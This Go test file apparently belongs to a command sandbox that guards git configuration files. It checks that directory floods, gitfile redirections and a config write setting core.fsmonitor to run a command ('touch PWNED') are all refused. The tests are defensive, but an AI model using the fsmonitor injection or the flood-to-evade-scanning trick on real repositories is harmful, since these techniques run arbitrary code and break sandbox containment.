	for _, d := range []string{inner, lib} {
		os.MkdirAll(d, 0o755)
		e.git(d, "init", "-q")
		e.git(d, "commit", "-q", "--allow-empty", "-m", "start")
	}
	e.git(lib, "-c", "protocol.file.allow=always", "submodule", "add", "-q", inner, "inner")
	e.git(lib, "commit", "-qm", "inner")
	e.git(e.work, "init", "-q")
	e.git(e.work, "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, path)
	e.git(e.work, "-c", "protocol.file.allow=always", "submodule", "update", "-q", "--init", "--recursive")
	e.git(e.work, "commit", "-qm", "add")
}

// A command that makes more directories than the scan looks at (below
// .git/modules, or at the top) does not switch protection off: the next
// command is refused, and the protected files stay as they were.
func TestProtectedScanCutRefuses(t *testing.T) {
	e := newEnv(t)
	e.submoduleRepo("vendor/lib")
	for _, tc := range []struct{ name, flood, victim, flooded string }{
		{"modules", "mkdir -p .git/modules/0000/d{1000..1600}", ".git/modules/vendor/lib/config", ".git/modules/0000"},
		{"top", "mkdir a{1000..2100}", "sub/.git/config", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			victim := filepath.Join(e.work, tc.victim)
			before, _ := os.ReadFile(victim)
			res, err := e.runErr("exec /bin/bash -c '" + tc.flood + "'")
			if err != nil || res.ExitCode != 0 {
				t.Fatalf("flood: %v %+v", err, res)
			}
			if !slices.ContainsFunc(res.Warnings, func(w string) bool { return strings.Contains(w, "is larger than corral checks") }) {
				t.Errorf("no warning after the flood: %q", res.Warnings)
			}
			_, err = e.runErr(`printf '[core]\n\tfsmonitor = "touch PWNED; false"\n' >> ` + tc.victim)
			if !errors.Is(err, sandbox.ErrPolicy) || !strings.Contains(err.Error(), "narrower working directory") || !strings.Contains(err.Error(), "protected_paths") {
				t.Errorf("the command after the flood: %v, want: refused", err)
			}
			if now, _ := os.ReadFile(victim); string(now) != string(before) {
				t.Errorf("%s changed:\n%s", tc.victim, now)
			}
			// Cleared on the host, commands run again.
			if tc.flooded != "" {
				os.RemoveAll(filepath.Join(e.work, tc.flooded))
			} else {
				ents, _ := os.ReadDir(e.work)
				for _, d := range ents {
					if strings.HasPrefix(d.Name(), "a1") || strings.HasPrefix(d.Name(), "a2") {
						os.Remove(filepath.Join(e.work, d.Name()))
					}
				}
			}
			if res, err := e.runErr(`true`); err != nil || res.ExitCode != 0 {
				t.Errorf("after the clean-up: %v %+v", err, res)
			}
		})
	}
}

// A project wider than the old bounds (40 top-level directories), with a
// submodule at depth 3 and a nested repository, runs, and the submodule's
// gitfile, the nested repository's configuration and the submodule's
// configuration are read-only.
func TestProtectedPathsWideProject(t *testing.T) {
	e := newEnv(t)
	e.submoduleRepo("third_party/go/lib")
	for i := 0; i < 40; i++ {
		for j := 0; j < 4; j++ {
			os.MkdirAll(filepath.Join(e.work, fmt.Sprintf("d%02d", i), fmt.Sprintf("s%d", j)), 0o755)
		}
	}
	gitfile := filepath.Join(e.work, "third_party/go/lib/.git")
	before, _ := os.ReadFile(gitfile)
	subConfig, _ := os.ReadFile(filepath.Join(e.work, "sub/.git/config"))
	o := e.sh(`
try() { if (eval "$1") 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
try 'echo "gitdir: ../../../.cache/g" > third_party/go/lib/.git' gitfile
try 'echo "gitdir: ../.cache/g" > third_party/go/lib/inner/.git' inner-gitfile
try 'echo "[core]" >> sub/.git/config' sub-config
try 'echo "[core]" >> .git/modules/third_party/go/lib/config' config
echo y > d01/s1/y.txt && echo RAN`)
	mustContain(t, o, "refused gitfile", "refused inner-gitfile", "refused sub-config", "refused config", "RAN")
	if now, _ := os.ReadFile(gitfile); string(now) != string(before) {
		t.Errorf("the gitfile changed: %s", now)
	}
	if now, _ := os.ReadFile(filepath.Join(e.work, "sub/.git/config")); string(now) != string(subConfig) {
		t.Errorf("sub/.git/config changed: %s", now)
	}
	if len(o.res.Warnings) != 0 {
		t.Errorf("warnings: %q", o.res.Warnings)
	}
	e.git(e.work, "status")
}

// TestGitTrustsHostRepositories: git in the sandbox reads a repository
// outside the working directory that the caller owns, as the caller's git
// on the host does: a root caller's sandbox sees root's files as the
// overflow user, which git took for "dubious ownership" (safe.directory).
func TestGitTrustsHostRepositories(t *testing.T) {
	e := newEnv(t)
	up := filepath.Join(e.base, "upstream")
	os.MkdirAll(up, 0o755)
	e.git(up, "init", "-q", "-b", "main")
	e.git(up, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "from-the-host")
	o := e.sh(`git -C `+up+` log --format=%s && git clone -q `+up+` cloned && git -C cloned log --format=%s | sed s/^/CLONED-/`,
		func(r *sandbox.Request) { r.Binds = []sandbox.Bind{{Src: up, ReadOnly: true}} })
	mustContain(t, o, "from-the-host\n", "CLONED-from-the-host")
	mustNotContain(t, o, "dubious")
}

// heldNamed reports whether the line that says what a command made at
// protected paths (handback.HeldNotice) names p, relative to the working
// directory.
func heldNamed(warns []string, p string) bool {
	for _, w := range warns {
		if !strings.HasPrefix(w, "held ") {
			continue
		}
		for _, pre := range []string{": ", ", "} {
			for _, post := range []string{",", " (", ";"} {
				if strings.Contains(w, pre+p+post) {
					return true
				}
			}
			if strings.HasSuffix(w, pre+p) {
				return true
			}
		}
	}
	return false
}
